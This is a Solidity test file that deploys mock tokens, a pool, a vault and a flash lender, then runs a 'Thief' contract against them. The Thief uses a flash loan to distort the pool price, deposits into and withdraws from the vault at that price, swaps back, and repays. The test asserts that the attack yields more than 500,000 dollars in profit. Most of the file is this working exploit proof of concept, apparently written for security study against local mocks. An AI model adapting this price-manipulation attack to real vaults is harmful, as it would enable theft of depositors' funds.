// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {AmplifiedPool} from "../vault-pool-price/src/AmplifiedPool.sol";
import {BarnVault} from "../vault-pool-price/src/BarnVault.sol";
import {Token} from "../../shared/Erc20.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
}

contract Thief is IFlashBorrower {
    VaultPoolPriceTest private immutable t = VaultPoolPriceTest(msg.sender);

    function run(uint256 loan) external {
        t.lender().flashLoan(this, address(t.usdy()), loan, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        (AmplifiedPool amp, BarnVault barn) = (t.amp(), t.barn());
        (Token usdx, Token usdy) = (t.usdx(), t.usdy());
        usdx.approve(address(amp), type(uint256).max);
        usdy.approve(address(amp), type(uint256).max);
        usdx.approve(address(barn), type(uint256).max);
        amp.swap(false, amount, 0);
        barn.deposit(usdx.balanceOf(address(this)), 0);
        barn.withdraw(barn.balanceOf(address(this)), 0, 0);
        amp.swap(true, usdx.balanceOf(address(this)), 0);
        usdy.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract VaultPoolPriceTest {
    event log_named_decimal_uint(string key, uint256 value, uint256 decimals);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant dana = address(0xda);
    address private constant erik = address(0xe1);
    address private constant fay = address(0xfa);

    Token public usdx;
    Token public usdy;
    AmplifiedPool public amp;
    BarnVault public barn;
    FlashLender public lender;

    function setUp() public {
        usdx = new Token("Dollar X", "USDX");
        usdy = new Token("Dollar Y", "USDY");
        amp = new AmplifiedPool(usdx, usdy);
        barn = new BarnVault(amp);
        lender = new FlashLender(5);
        usdx.mint(dana, 14_000_000 ether);
        usdy.mint(dana, 14_000_000 ether);
        usdx.mint(erik, 16_000_000 ether);
        usdx.mint(fay, 7_000_000 ether);
        usdy.mint(address(this), 8_500_000 ether);
        usdx.mint(address(lender), 50_000_000 ether);
        usdy.mint(address(lender), 50_000_000 ether);
        vm.startPrank(dana);
        usdx.approve(address(amp), type(uint256).max);
        usdy.approve(address(amp), type(uint256).max);
        amp.open(12_000_000 ether, dana);
        vm.stopPrank();
        _deposit(erik, 14_000_000 ether);
        _deposit(fay, 6_000_000 ether);
        usdy.approve(address(barn), type(uint256).max);
        barn.invest(16_000_000 ether);
    }

    function _deposit(address who, uint256 amount) private {
        vm.startPrank(who);
        usdx.approve(address(barn), type(uint256).max);
        barn.deposit(amount, 0);
        vm.stopPrank();
    }

    function _profit(uint256 loan) private returns (uint256) {
        Thief thief = new Thief();
        usdx.mint(address(thief), 50_000 ether);
        thief.run(loan);
        uint256 wealth = usdx.balanceOf(address(thief)) + usdy.balanceOf(address(thief));
        return wealth > 50_000 ether ? wealth - 50_000 ether : 0;
    }

    function test_attack_pays() public {
        uint256 profit = _profit(24_000_000 ether);
        emit log_named_decimal_uint("profit in dollars", profit, 18);
        require(profit > 500_000 ether, "no profit");
    }
}
